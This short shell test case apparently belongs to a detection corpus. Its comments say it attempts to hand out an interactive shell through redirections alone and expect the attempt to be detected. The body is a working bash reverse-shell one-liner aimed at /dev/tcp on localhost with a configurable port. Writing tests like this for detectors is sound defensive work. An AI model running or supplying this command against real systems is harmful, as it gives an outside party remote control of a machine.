# tries: give an interactive shell away with nothing but redirections
# expect: detected
bash -i >& "/dev/tcp/127.0.0.1/${CORPUS_PORT:-9}" 0>&1 </dev/null 2>/dev/null && echo EFFECT
exit 0
